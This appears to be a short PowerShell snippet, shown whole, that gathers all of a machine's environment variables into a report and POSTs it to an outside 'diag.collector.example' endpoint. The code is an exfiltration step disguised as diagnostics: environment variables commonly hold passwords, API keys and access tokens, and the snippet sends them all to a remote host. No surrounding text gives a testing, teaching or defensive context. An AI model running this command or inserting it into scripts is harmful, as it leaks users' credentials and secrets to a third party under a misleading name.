$report = Get-ChildItem Env: | Out-String
Invoke-RestMethod -Method Post -Uri 'https://diag.collector.example/in' -Body $report
